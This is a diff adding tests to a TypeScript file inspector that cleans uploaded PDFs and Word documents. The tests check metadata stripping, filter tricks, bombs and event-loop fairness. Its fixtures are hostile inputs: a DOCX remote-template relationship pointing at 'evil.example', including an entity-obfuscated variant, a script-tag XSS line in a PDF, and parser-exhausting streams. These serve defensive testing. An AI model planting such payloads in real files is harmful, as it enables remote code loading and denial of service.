@@ -2,10 +2,11 @@ import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { crc32, deflateSync } from 'node:zlib';
-import { PDFDocument, PDFName } from 'pdf-lib';
+import { PDFDocument, PDFName, PDFRawStream } from 'pdf-lib';
 import sharp from 'sharp';
-import { afterAll, describe, expect, test } from 'vitest';
+import { afterAll, describe, expect, test, vi } from 'vitest';
 import { inspectFile } from './inspect.ts';
+import { isBomb } from './pdf-bomb.ts';
 import { pack, readZip, unpack, writeZip } from './zip.ts';
 
 const folder = mkdtempSync(join(tmpdir(), 'lapor-inspect-'));
@@ -22,6 +23,22 @@ async function inspect(content: Buffer | string, limits = { maxPixels: 64_000_00
   writeFileSync(input, content);
   const found = await inspectFile(input, output, limits);
   return { found, kept: typeof found === 'string' ? Buffer.alloc(0) : readFileSync(output) };
+}
+
+/** The longest time for which nobody else had a turn while this content was looked at, as a part of all that time. */
+async function shareOfLongestTurn(content: Buffer): Promise<number> {
+  const before = performance.now();
+  let [last, longest, done] = [before, 0, false];
+  const turn = () => {
+    const now = performance.now();
+    [last, longest] = [now, Math.max(longest, now - last)];
+    if (!done) setImmediate(turn);
+  };
+  setImmediate(turn);
+  await inspect(content);
+  turn();
+  done = true;
+  return longest / (performance.now() - before);
 }
 
 /** 24 by 16 pixels, as a phone in Bandung takes them. */
@@ -207,6 +224,57 @@ describe('a PDF', () => {
     }
   });
 
+  test.each([
+    ['packed once more', 'FlateDecode', deflateSync],
+    ['written in letters', 'ASCIIHexDecode', (bytes: Buffer) => Buffer.from(`${bytes.toString('hex')}>`)],
+    ['under a filter that lies elsewhere', null, (bytes: Buffer) => bytes],
+  ] as const)('keeps no place of a photo that is %s', async (_, filter, wrap) => {
+    const document = await makePdf();
+    const { context } = document;
+    const jpeg = await photo().jpeg().toBuffer();
+    const Filter =
+      filter === null ? context.register(PDFName.of('DCTDecode')) : context.obj([filter, 'DCTDecode']);
+    const facts = { Type: 'XObject', Subtype: 'Image', Width: 24, Height: 16, Filter };
+    context.register(context.stream(wrap(jpeg), facts));
+    const { found, kept } = await inspect(Buffer.from(await document.save()));
+    expect(found).toMatchObject({ type: 'application/pdf' });
+    const again = await PDFDocument.load(kept, { updateMetadata: false });
+    const photos = again.context
+      .enumerateIndirectObjects()
+      .flatMap(([, object]) =>
+        object instanceof PDFRawStream && String(object.dict.get(PDFName.of('Filter'))) === '/DCTDecode'
+          ? [Buffer.from(object.contents)]
+          : [],
+      );
+    expect(photos).toHaveLength(2);
+    for (const one of photos) {
+      expect(one.includes(canary)).toBe(false);
+      expect(await sharp(one).raw().toBuffer()).toEqual(await sharp(jpeg).raw().toBuffer());
+      expect((await sharp(one).metadata()).exif).toBeUndefined();
+    }
+  });
+
+  test('with a photo packed in a way that nobody packs photos is refused', async () => {
+    const document = await makePdf();
+    const { context } = document;
+    const facts = { Subtype: 'Image', Filter: context.obj(['RunLengthDecode', 'DCTDecode']) };
+    context.register(context.stream(await photo().jpeg().toBuffer(), facts));
+    expect((await inspect(Buffer.from(await document.save()))).found).toBe('damaged');
+  });
+
+  test('whose streams never end leaves others their turns', async () => {
+    const hostile = Buffer.from(`%PDF-1.7\n1 0 obj\n<< /Type /XRef >>\n${'stream\n'.repeat(40_000)}`);
+    expect(await shareOfLongestTurn(hostile)).toBeLessThan(0.5);
+  });
+
+  test('is read once for bombs, however many of its streams never end', async () => {
+    const hostile = Buffer.from(`%PDF-1.7\n1 0 obj\n${'<< stream\n'.repeat(20_000)}`);
+    const reading = vi.spyOn(hostile, 'toString');
+    expect(await isBomb(hostile)).toBe(false);
+    const read = reading.mock.calls.reduce((sum, [, from = 0, to = 0]) => sum + to - from, 0);
+    expect(read).toBeLessThan(2 * hostile.length);
+  });
+
   test('of nothing but a head is damaged', async () => {
     expect((await inspect('%PDF-1.7\n<script>alert(1)</script>')).found).toBe('damaged');
   });
@@ -340,6 +408,13 @@ describe('a document', () => {
           '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>',
       },
     ],
+    [
+      'a template from elsewhere that hides',
+      {
+        'word/_rels/settings.xml.rels':
+          '<p:Relationships><p:Relationship Id="a>b/hyperlink" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="Exter&#110;al"/></p:Relationships>',
+      },
+    ],
   ])('with %s is refused', async (_, more) => {
     expect((await inspect(await makeDocx(more))).found).toBe('active');
   });
@@ -349,6 +424,34 @@ describe('a document', () => {
     const bomb = await pack('word/bomb.xml', Buffer.alloc(80_000_000));
     expect((await inspect(writeZip([...entries, bomb]))).found).toBe('size');
     expect((await inspect(writeZip([...entries, { ...bomb, bytes: 1_000 }]))).found).toBe('damaged');
+  });
+
+  test('with a link for its reader to follow is taken', async () => {
+    const links =
+      '<Relationships><Relationship Id="r1" Type="http://x/hyperlink" Target="https://bandung.go.id/" TargetMode="External"/></Relationships>';
+    const { found } = await inspect(await makeDocx({ 'word/_rels/document.xml.rels': links }));
+    expect(found).toMatchObject({ type: docxType });
+  });
+
+  test('in an encoding that cannot be looked through is damaged', async () => {
+    for (const part of [
+      Buffer.from('\ufeff<w:comments w:author="x"/>', 'utf16le'),
+      '<?xml version="1.0" encoding="UTF-7"?><w:comments/>',
+    ]) {
+      expect((await inspect(await makeDocx({ 'word/comments.xml': part }))).found).toBe('damaged');
+    }
+  });
+
+  test.each([
+    ['relations', 'word/_rels/document.xml.rels', '<Relationship '],
+    ['relations told in quotes', 'word/_rels/document.xml.rels', '<Relationship Target="docProps/'],
+    ['names', 'word/document.xml', ' w:author='],
+    ['spaces', 'word/document.xml', `${' '.repeat(1_000)}w:author`],
+  ])('of endless %s leaves others their turns, and is judged', async (_, name, piece) => {
+    const hostile = await makeDocx({ [name]: piece.repeat(3_000_000 / piece.length) });
+    expect(hostile.length).toBeLessThan(30_000);
+    expect(await shareOfLongestTurn(hostile)).toBeLessThan(0.5);
+    expect((await inspect(hostile)).found).toMatchObject({ type: docxType });
   });
 
   test('with names that lead elsewhere is damaged', async () => {
